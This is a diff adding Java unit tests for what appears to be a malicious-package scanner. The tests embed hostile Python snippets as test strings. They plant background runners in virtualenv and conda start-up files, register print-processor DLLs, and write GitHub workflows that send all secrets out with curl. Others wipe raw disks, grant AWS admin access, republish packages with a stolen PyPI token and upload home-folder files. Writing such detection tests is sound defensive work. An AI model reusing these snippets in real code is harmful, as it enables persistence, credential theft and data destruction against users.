@@ -3452,6 +3452,135 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/scan.py", scan))).isEmpty();
   }
 
+  @Test
+  void pythonStartedInTheBackgroundFromAnotherProgramsStartUpFileIsFlagged() {
+    String activate =
+        "import glob\nLINE = '( \"$VIRTUAL_ENV/bin/python\" -c \"import pkg._sync\" >/dev/null 2>&1 &"
+            + " )'\nfor script in glob.glob(PATTERN):\n"
+            + "    with open(script, 'a', encoding='utf-8') as fh:\n        fh.write(LINE)\n";
+    String condaHook =
+        "import os\nwith open(os.path.join(HOOKS, 'zz.sh'), 'w', encoding='utf-8') as fh:\n"
+            + "    fh.write('(python3 -m pkg._sync >/dev/null 2>&1 &)')\n";
+    String npmrc =
+        "with open(NPMRC, 'a', encoding='utf-8') as fh:\n    fh.write(f'script-shell={SHIM}')\n";
+    String foreground = activate.replace(" >/dev/null 2>&1 &", "");
+    String onlyShown = "print('start it with: nohup python -m pkg.server >/dev/null 2>&1 &')\n";
+
+    assertThat(levelIn(activate, "writes-detached-runner")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(condaHook, "writes-detached-runner")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(npmrc, "command-in-tool-config")).isEqualTo(RiskLevel.MEDIUM);
+    // the interpreter started in the foreground; a background start only printed for the user
+    assertThat(check(wheelWith("pkg/env.py", foreground))).isEmpty();
+    assertThat(check(wheelWith("pkg/help.py", onlyShown))).isEmpty();
+  }
+
+  @Test
+  void printProcessorsOutlookHomePagesAndPackageManagerPluginsAreFlagged() {
+    String processor =
+        "import shutil, winreg\nshutil.copyfile(DLL, TARGET)\n"
+            + "key = winreg.CreateKeyEx(winreg.HKEY_LOCAL_MACHINE, r'SYSTEM\\CurrentControlSet"
+            + "\\Control\\Print\\Environments\\Windows x64\\Print Processors\\Fmt', 0, W)\n"
+            + "winreg.SetValueEx(key, 'Driver', 0, winreg.REG_SZ, 'fmt.dll')\n";
+    String outlook =
+        "import winreg\nkey = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
+            + " r'Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox')\n"
+            + "winreg.SetValueEx(key, 'URL', 0, winreg.REG_SZ, PAGE)\n";
+    String dnf =
+        "with open('/etc/dnf/plugins/mirror.conf', 'w', encoding='utf-8') as fh:\n"
+            + "    fh.write('[main]\\nenabled=1\\n')\n";
+    String processorRead =
+        processor
+            .replace("shutil.copyfile(DLL, TARGET)\n", "")
+            .replace("winreg.SetValueEx(key, 'Driver', 0, winreg.REG_SZ, 'fmt.dll')", "")
+            .replace("CreateKeyEx", "OpenKey");
+    String outlookRead =
+        outlook.replace(
+            "winreg.SetValueEx(key, 'URL', 0, winreg.REG_SZ, PAGE)",
+            "page = winreg.QueryValueEx(key, 'URL')");
+    String dnfListed = "import os\nplugins = os.listdir('/etc/dnf/plugins')\n";
+
+    assertThat(levelIn(processor, "print-processor-registered")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(outlook, "outlook-home-page-set")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(dnf, "plants-app-plugin")).isEqualTo(RiskLevel.HIGH);
+    // the same places only read
+    assertThat(check(wheelWith("pkg/print.py", processorRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/mail.py", outlookRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/dnf.py", dnfListed))).isEmpty();
+  }
+
+  @Test
+  void workflowsPlantedDisksOverwrittenCloudAdminsAndPackagesRepublishedAreFlagged() {
+    String workflow =
+        "import glob, os\nfor git in glob.glob(os.path.expanduser('~/*/*/.git')):\n"
+            + "    d = os.path.join(os.path.dirname(git), '.github', 'workflows')\n"
+            + "    with open(os.path.join(d, 'lint.yml'), 'w', encoding='utf-8') as fh:\n"
+            + "        fh.write(FLOW)\n";
+    String dump = "FLOW = '''steps:\n  - run: echo \"${{ toJSON(secrets) }}\" | curl -d @- X'''\n";
+    String disk =
+        "import glob\nfor device in glob.glob('/dev/sd?'):\n"
+            + "    with open(device, 'r+b', buffering=0) as fh:\n        fh.write(ZEROS)\n";
+    String admin =
+        "import boto3\niam = boto3.client('iam')\niam.attach_user_policy(UserName=U,"
+            + " PolicyArn='arn:aws:iam::aws:policy/AdministratorAccess')\n";
+    String twine =
+        "import configparser, os, subprocess, sys\nrc = configparser.ConfigParser()\n"
+            + "rc.read(os.path.expanduser('~/.pypirc'))\n"
+            + "env = dict(os.environ, TWINE_PASSWORD=rc.get('pypi', 'password'))\nfor dist in DISTS:\n"
+            + "    subprocess.run([sys.executable, '-m', 'twine', 'upload', dist], env=env)\n";
+    String remotes =
+        "import glob, httpx\nfound = [open(c).read() for c in glob.glob(HOME + '/**/.git/config',"
+            + " recursive=True)]\nhttpx.post(URL, json=found)\n";
+    String ownWorkflow = workflow.replace("glob.glob(os.path.expanduser('~/*/*/.git'))", "[ROOT]");
+    String diskRead =
+        disk.replace("'r+b', buffering=0", "'rb'").replace("fh.write(ZEROS)", "fh.read(512)");
+    String readOnly = admin.replace("AdministratorAccess", "ReadOnlyAccess");
+    String plainTwine = "import subprocess\nsubprocess.run(['twine', 'upload', 'dist/*'])\n";
+    String ownRemote =
+        remotes.replace("glob.glob(HOME + '/**/.git/config', recursive=True)", "['.git/config']");
+
+    assertThat(levelIn(workflow, "workflow-planted-in-repositories")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(dump, "workflow-dumps-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(disk, "overwrites-disk")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(admin, "cloud-admin-granted")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(twine, "republishes-with-user-token")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(remotes, "git-remotes-sent")).isEqualTo(RiskLevel.HIGH);
+    // a project's own workflow written, a disk read, a narrower policy, twine run with its own
+    // configuration, one repository's remote sent
+    assertThat(check(wheelWith("pkg/scaffold.py", ownWorkflow))).isEmpty();
+    assertThat(check(wheelWith("pkg/disk.py", diskRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/iam.py", readOnly))).isEmpty();
+    assertThat(check(wheelWith("pkg/release.py", plainTwine))).isEmpty();
+    assertThat(check(wheelWith("pkg/remote.py", ownRemote))).isEmpty();
+  }
+
+  @Test
+  void whatIsReadUnderTheHomeFolderAndUploadedIsMediumUnlessItIsThePackagesOwn() {
+    String relative =
+        "import os, urllib.request\nfound = {}\nfor name, rel in PLACES:\n"
+            + "    path = os.path.join(os.path.expanduser('~'), rel)\n"
+            + "    with open(path) as fh:\n        found[name] = fh.read()\n"
+            + "urllib.request.urlopen(urllib.request.Request(URL, data=repr(found).encode()))\n";
+    String appData =
+        "import os, requests\nlocal = os.environ.get('LOCALAPPDATA', '')\n"
+            + "settings = os.path.join(local, 'Some Game', 'Settings.yaml')\n"
+            + "with open(settings, 'rb') as fh:\n    requests.post(URL, files={'s': fh})\n";
+    String own =
+        appData
+            .replace("local = os.environ.get('LOCALAPPDATA', '')\n", "")
+            .replace(
+                "os.path.join(local, 'Some Game',",
+                "os.path.join(os.environ['LOCALAPPDATA'], 'Mailer',");
+    String downloaded =
+        "import os, requests\ncache = os.path.join(os.path.expanduser('~'), 'models')\n"
+            + "data = requests.get(URL).content\n";
+
+    assertThat(levelIn(relative, "uploads-home-data")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(appData, "uploads-home-data")).isEqualTo(RiskLevel.MEDIUM);
+    // its own folder, named where the home folder is joined; a download into the home folder
+    assertThat(check("mailer", Map.of(), wheelWith("mailer/sync.py", own))).isEmpty();
+    assertThat(check(wheelWith("pkg/models.py", downloaded))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
